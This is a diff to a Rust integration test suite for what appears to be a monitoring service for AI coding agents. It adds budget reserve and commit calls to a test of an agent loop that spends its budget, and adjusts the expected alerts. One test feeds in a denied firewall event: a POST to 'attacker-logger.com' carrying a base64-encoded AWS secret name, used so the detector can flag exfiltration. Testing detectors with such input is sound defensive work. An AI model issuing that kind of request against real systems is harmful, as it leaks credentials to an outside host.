@@ -37,6 +37,7 @@ struct Scene {
     server: Server,
     coderd: String,
     hooks: String,
+    gateway: String,
     receivers: [(&'static str, Receiver<Received>); 3],
     /// What was received, by receiver.
     received: RefCell<BTreeMap<&'static str, Vec<Told>>>,
@@ -113,11 +114,12 @@ allow_private = true
         let coderd = world.token("coderd", &["--role", "ingest", "--dialect", "coder", "--trust", "control_plane"]);
         let hooks = ["--role", "ingest", "--dialect", "claude_code", "--workspace", WORKSPACE, "--team", "payments"];
         let hooks = world.token("claude", &hooks);
+        let gateway = world.token("gateway", &["--role", "budget"]);
         let server = world.serve();
         let receivers = [("slack", chat), ("pagerduty", pager), ("splunk", siem)];
         let received = RefCell::new(receivers.iter().map(|(name, _)| (*name, Vec::new())).collect());
         let sent = RefCell::new(0);
-        Self { world, server, coderd, hooks, receivers, received, sent }
+        Self { world, server, coderd, hooks, gateway, receivers, received, sent }
     }
 
     fn push(&self, collector: &str, token: &str, record: &str) {
@@ -150,9 +152,17 @@ allow_private = true
         self.coderd("boundary_request", &fields);
     }
 
-    /// A model call of the session with so many tokens of output, as the gateway logs it: $15 for each million.
-    fn model_call(&self, output_tokens: u64) {
+    /// A model call of the session with 160,000 tokens of output at $15 for each million: the gateway asks for $2.50, calls,
+    /// says what it cost and logs it. `false` if it was refused the money.
+    fn model_call(&self) -> bool {
         let interception = format!("db055e36-6ce6-4ea8-84bc-{:012}", self.number());
+        let reserve = json!({"id": interception, "budgets": ["payments"], "micros": 2_500_000});
+        let answer = self.ask("reserve", &reserve);
+        if answer.status == 402 {
+            println!("\nthe gateway is refused: {}", answer.body);
+            return false;
+        }
+        assert_eq!((answer.status, &answer.json()["decision"]), (200, &json!("granted")), "{answer:?}");
         let of = |record_type: &str| json!({"record_type": record_type, "interception_id": interception});
         let mut start = of("interception_start");
         let started = json!({
@@ -161,7 +171,7 @@ allow_private = true
         });
         let mut tokens = of("token_usage");
         let used = json!({
-            "msg_id": format!("msg_{interception}"), "input_tokens": 2140, "output_tokens": output_tokens,
+            "msg_id": format!("msg_{interception}"), "input_tokens": 2140, "output_tokens": 160_000,
             "cache_read_input_tokens": 0, "cache_write_input_tokens": 0, "created_at": now(), "metadata": {},
         });
         for (record, more) in [(&mut start, started), (&mut tokens, used)] {
@@ -172,6 +182,16 @@ allow_private = true
         for record in [start, tokens, end] {
             self.coderd("interception log", &record);
         }
+        let answer = self.ask("commit", &json!({"id": interception, "micros": 2_406_420}));
+        assert_eq!(answer.status, 200, "{answer:?}");
+        true
+    }
+
+    fn ask(&self, action: &str, body: &Value) -> http::Answer {
+        let bearer = format!("Bearer {}", self.gateway);
+        let headers = [("Authorization", bearer.as_str()), ("Content-Type", "application/json")];
+        let path = format!("/api/v1/budgets/{action}");
+        http::send(&self.server.console, "POST", &path, &headers, body.to_string().as_bytes()).unwrap()
     }
 
     fn coderd(&self, message: &str, fields: &Value) {
@@ -264,7 +284,7 @@ allow_private = true
         let Self { world, server, receivers, received, .. } = self;
         assert!(server.stop().unwrap().success());
         drop(receivers);
-        let alerts = world.sql("SELECT rule, severity, state, title, reason FROM alerts ORDER BY seq");
+        let alerts = world.sql("SELECT rule, severity, state, title, reason FROM alerts ORDER BY rule");
         println!("\n# {story}");
         for alert in &alerts {
             let text = |name: &str| alert[name].as_str().unwrap_or_default();
@@ -334,14 +354,18 @@ fn a_refused_exfiltration() {
     scene.firewall("deny", "POST", "https://attacker-logger.com/collect?data=QVdTX1NFQ1JFVA");
     let alert = scene.alert("egress.denied_post", "open", "high");
     assert!(alert["reason"].as_str().unwrap().contains("was refused"), "{alert}");
-    scene.end("A refused exfiltration", &[["file.unusual", "medium", "open"], ["egress.denied_post", "high", "open"]]);
+    scene.end("A refused exfiltration", &[["egress.denied_post", "high", "open"], ["file.unusual", "medium", "open"]]);
 }
 
 #[test]
 fn a_loop_that_spends_its_budget() {
-    let scene = Scene::set("[detect.rules.\"spend.budget\".agent]\nday_usd = 20\n");
-    for _ in 0..9 {
-        scene.model_call(160_000);
+    let scene = Scene::set(
+        "[detect.rules.\"spend.budget\".agent]\nday_usd = 20\n\n\
+         [[budget]]\nname = \"payments\"\ncap_usd = 20\nperiod = \"day\"\n",
+    );
+    let mut calls = 0;
+    while scene.model_call() {
+        calls += 1;
         let command = json!({"command": "npm test -- checkout", "description": "Run the tests"});
         scene.tool(
             "Bash",
@@ -349,12 +373,11 @@ fn a_loop_that_spends_its_budget() {
             &json!({"error": "Exit code 1\n1 failing: expected 200, got 500", "is_interrupt": false}),
         );
     }
+    assert_eq!(calls, 8, "eight calls at $2.41 leave less than the $2.50 that the next one could cost");
     scene.alert("loop.repeat", "updated", "critical");
-    scene.alert("spend.budget", "updated", "high");
-    scene.end(
-        "A loop that spends its budget",
-        &[["loop.repeat", "critical", "updated"], ["spend.budget", "high", "updated"]],
-    );
+    scene.alert("spend.budget", "updated", "medium");
+    let expected = &[["loop.repeat", "critical", "updated"], ["spend.budget", "medium", "updated"]];
+    scene.end("A loop that spends its budget", expected);
 }
 
 #[test]
@@ -367,7 +390,7 @@ fn a_slow_exfiltration() {
         meanwhile(1, || scene.firewall("allow", "GET", "https://packages.acme.example/npm/left-pad"));
     }
     scene.alert("egress.slow_post", "open", "high");
-    scene.end("A slow exfiltration", &[["file.unusual", "medium", "open"], ["egress.slow_post", "high", "open"]]);
+    scene.end("A slow exfiltration", &[["egress.slow_post", "high", "open"], ["file.unusual", "medium", "open"]]);
 }
 
 #[test]
